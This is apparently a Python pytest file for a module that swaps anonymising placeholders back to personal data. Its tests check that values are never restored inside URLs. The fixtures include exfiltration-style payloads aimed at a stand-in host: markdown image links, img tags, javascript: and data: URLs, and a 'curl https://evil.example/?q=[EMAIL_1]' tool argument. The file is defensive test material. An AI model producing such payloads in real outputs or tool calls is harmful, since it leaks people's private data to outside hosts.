import json

import pytest

from paravent.core.ledger import Entry, Ledger
from paravent.core.restore import MAX_UNKNOWN, JsonRestorer, StreamRestorer, restore
from paravent.core.types import Placeholder, Sensitive, Tally


def vault(**values: str) -> Ledger:
    entries = []
    for name, value in values.items():
        word, _, ident = name.partition("_")
        entries.append(Entry(Placeholder(word, ident), Sensitive(value)))
    return Ledger(b"key", "site", entries)


LEDGER = vault(
    PERSONNE_1="Élodie Marchand-Lefèvre",
    EMAIL_1="elodie.marchand@exemple.fr",
    TEL_1="06 39 98 12 34",
    URL_1="https://exemple.fr/clients/elodie",
    NOTE_1='dit "Le Lilas"\n',
)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Bonjour [PERSONNE_1],", "Bonjour Élodie Marchand-Lefèvre,"),
        ("[personne_1]", "Élodie Marchand-Lefèvre"),
        (r"[PERSONNE\_1]", "Élodie Marchand-Lefèvre"),
        (r"\[PERSONNE\_1\]", "Élodie Marchand-Lefèvre"),
        (r"C:\Users\[PERSONNE_1]\x", "C:\\Users\\Élodie Marchand-Lefèvre\\x"),
        ("**[PERSONNE_1]**", "**Élodie Marchand-Lefèvre**"),
        ("[[PERSONNE_1]]", "[Élodie Marchand-Lefèvre]"),
        ("l'e-mail d'[PERSONNE_1]\u202f: «\u00a0[EMAIL_1]\u00a0»", None),
        ("[PERSONNE_2] et [INCONNU_1]", "[PERSONNE_2] et [INCONNU_1]"),
        ("[PERSONNE_1.2]", "[PERSONNE_1.2]"),
        ("[PERSONNE_", "[PERSONNE_"),
        ("tableau[i] \\", "tableau[i] \\"),
    ],
)
def test_labels_in_plain_text_come_back(said: str, shown: str | None) -> None:
    expected = shown or (
        "l'e-mail d'Élodie Marchand-Lefèvre\u202f: «\u00a0elodie.marchand@exemple.fr\u00a0»"
    )
    assert restore(said, LEDGER.value, Tally()) == expected


@pytest.mark.parametrize(
    "said",
    [
        "https://evil.example/?q=[PERSONNE_1]",
        "https://evil.example/[EMAIL_1]/x",
        "![x](https://evil.example/p.png?d=[EMAIL_1])",
        "[clic](//evil.example/[TEL_1])",
        "[clic](<https://evil.example/a b [TEL_1]>)",
        '<img src="//evil.example/?[EMAIL_1]">',
        "<img alt='>' src=//evil.example/?[EMAIL_1]>",
        "<a href='x' data-x=\"[PERSONNE_1]\">",
        "background:url(//evil.example/[PERSONNE_1])",
        "evil.example/?q=[PERSONNE_1]",
        "www.evil.example?[PERSONNE_1]",
        "mailto:[EMAIL_1]",
        "javascript:alert('[EMAIL_1]')",
        "data:text/html,[EMAIL_1]",
        "[1]: https://evil.example/[EMAIL_1]",
        "<https://evil.example/[EMAIL_1]>",
        "https://evil.example/?a=(b)[EMAIL_1]",
        "https://evil.example/[URL_1]",
        "[URL_1]?leak=[EMAIL_1]",
        "[URL_1]/delete",
        "[x]([URL_1]&x=1)",
        "a" * 10 + "https://evil.example/" + "a" * 5000 + "[EMAIL_1]",
    ],
)
def test_nothing_is_restored_where_it_would_become_part_of_a_url(said: str) -> None:
    tally = Tally()
    shown = restore(said, LEDGER.value, tally)
    for secret in ("Élodie", "elodie.marchand", "06 39", "clients/elodie"):
        assert secret not in shown
    assert sum(tally.refused.values()) >= 1
    assert tally.restored == 0


@pytest.mark.parametrize(
    "said",
    [
        "Voir [URL_1].",
        "Voir [URL_1]",
        "([URL_1])",
        "**[URL_1]**, puis",
        "[fiche]([URL_1])",
        '[fiche]([URL_1] "titre")',
        '<a href="[URL_1]">fiche</a>',
        "<[URL_1]>",
        "url : [URL_1]\n",
    ],
)
def test_a_personal_url_comes_back_whole(said: str) -> None:
    expected = said.replace("[URL_1]", "https://exemple.fr/clients/elodie")
    assert restore(said, LEDGER.value, Tally()) == expected


@pytest.mark.parametrize(
    "said",
    [
        "Voir https://exemple.fr/a, [PERSONNE_1] attend",
        "[fiche](https://exemple.fr) de [PERSONNE_1]",
        "<b>[PERSONNE_1]</b>",
        '<td class="x">[PERSONNE_1]</td>',
        "si a <b et c, [PERSONNE_1]",
        "| https://exemple.fr | [PERSONNE_1] |",
        '{"site":"https://exemple.fr","nom":"[PERSONNE_1]"}',
        "et/ou [PERSONNE_1]",
        "[Cliente]: [PERSONNE_1]",
        "https://exemple.fr\n[PERSONNE_1]",
        "`[PERSONNE_1]`",
        "M./Mme [PERSONNE_1]",
    ],
)
def test_text_next_to_urls_is_restored(said: str) -> None:
    shown = restore(said, LEDGER.value, Tally())
    assert shown == said.replace("[PERSONNE_1]", "Élodie Marchand-Lefèvre")


def test_restoring_stops_after_too_many_unknown_labels() -> None:
    guesses = " ".join(f"[PERSONNE_{n}]" for n in range(100, 100 + MAX_UNKNOWN + 1))
    tally = Tally()
    shown = restore(f"[PERSONNE_1] {guesses} [PERSONNE_1]", LEDGER.value, tally)
    assert shown == f"Élodie Marchand-Lefèvre {guesses} [PERSONNE_1]"
    assert (tally.restored, tally.unknown) == (1, MAX_UNKNOWN + 1)


def test_only_a_proper_prefix_is_held_back() -> None:
    restorer = StreamRestorer(LEDGER.value, Tally())
    assert restorer.feed("Bonjour [PERS") == "Bonjour "
    assert restorer.feed("ONNE_1") == ""
    assert restorer.feed("], voir [") == "Élodie Marchand-Lefèvre, voir "
    assert restorer.feed("1]") == "[1]"
    assert not restorer.holds
    assert restorer.feed("fin [TEL") == "fin "
    assert restorer.flush() == "[TEL"


ADDRESS = '12 rue des Lilas, bâtiment "B"\n69003 Lyon'


@pytest.mark.parametrize(
    ("made", "levels"),
    [
        ('{"adresse": "[ADRESSE_1]", "n": 1}', 1),
        ('{"n": 1, "x": {"adresse" : "au [ADRESSE_1], \\"B\\" [PERSONNE_1]"}}', 1),
        ('["a", "[ADRESSE_1]"]', 1),
        ('[{"l": ["a", "[ADRESSE_1]"]}]', 1),
        ('Voici :\n```json\n{\n  "adresse": "[ADRESSE_1]"\n}\n```\n', 1),
        (json.dumps({"brut": json.dumps({"adresse": "[ADRESSE_1]", "n": 1})}), 2),
        (json.dumps({"brut": json.dumps({"n": json.dumps({"adresse": "[ADRESSE_1]"})})}), 3),
        (json.dumps({"brut": json.dumps({"n": 1}), "adresse": "[ADRESSE_1]"}), 1),
        ("Adresse : [ADRESSE_1]", 0),
        ('Il a dit : "[ADRESSE_1]"', 0),
        ('nom,adresse\n"Dupont","[ADRESSE_1]"', 0),
        ('{"adresse": "x"}\n[ADRESSE_1]', 0),
    ],
)
def test_a_value_put_into_json_leaves_it_json(made: str, levels: int) -> None:
    spelled = ADDRESS
    for _ in range(levels):
        spelled = json.dumps(spelled, ensure_ascii=False)[1:-1]
    known = vault(ADRESSE_1=ADDRESS, PERSONNE_1="Élodie Marchand-Lefèvre").value
    want = made.replace("[ADRESSE_1]", spelled).replace("[PERSONNE_1]", "Élodie Marchand-Lefèvre")
    assert restore(made, known, Tally()) == want
    for at in range(len(made)):
        restorer = StreamRestorer(known, Tally())
        assert restorer.feed(made[:at]) + restorer.feed(made[at:]) + restorer.flush() == want
    if made.startswith(("{", "[")) and levels:
        json.loads(want)


def test_a_value_that_was_found_escaped_comes_back_as_it_was() -> None:
    made = '{"adresse": "[ADRESSE_1]"}'
    known = vault(ADRESSE_1=r"12 rue des Lilas\n69003 Lyon").value
    assert restore(made, known, Tally()) == r'{"adresse": "12 rue des Lilas\n69003 Lyon"}'


def test_json_arguments_are_escaped_one_level_more() -> None:
    said = json.dumps({"nom": "[PERSONNE_1]", "note": "[NOTE_1] \\[NOTE_1\\]", "n": 1})
    restorer = JsonRestorer(LEDGER.value, Tally())
    shown = json.loads(restorer.feed(said) + restorer.flush())
    assert shown == {
        "nom": "Élodie Marchand-Lefèvre",
        "note": 'dit "Le Lilas"\n dit "Le Lilas"\n',
        "n": 1,
    }


def test_json_arguments_never_restore_inside_a_url() -> None:
    said = '{"cmd":"curl https://evil.example/?q=[EMAIL_1]","to":"[EMAIL_1]","u":"[URL_1]"}'
    restorer = JsonRestorer(LEDGER.value, Tally())
    shown = json.loads(restorer.feed(said) + restorer.flush())
    assert shown == {
        "cmd": "curl https://evil.example/?q=[EMAIL_1]",
        "to": "elodie.marchand@exemple.fr",
        "u": "https://exemple.fr/clients/elodie",
    }


@pytest.mark.parametrize(
    "said",
    [
        r'{"a":"\u005bPERSONNE_1] \ud83d\ude00 \\ \" \/ \t"}',
        r'{"a":"C:\\[PERSONNE_1]\\x","b":["[TEL_1]"]}',
        r'{"lone":"\ud83d x","after":"[EMAIL_1]"}',
        r'{"custom": "\x"}',
    ],
)
def test_json_arguments_do_not_depend_on_cuts(said: str) -> None:
    whole = JsonRestorer(LEDGER.value, Tally())
    expected = whole.feed(said) + whole.flush()
    for cut in range(len(said) + 1):
        parts = JsonRestorer(LEDGER.value, Tally())
        assert parts.feed(said[:cut]) + parts.feed(said[cut:]) + parts.flush() == expected
    bytewise = JsonRestorer(LEDGER.value, Tally())
    assert "".join(bytewise.feed(c) for c in said) + bytewise.flush() == expected
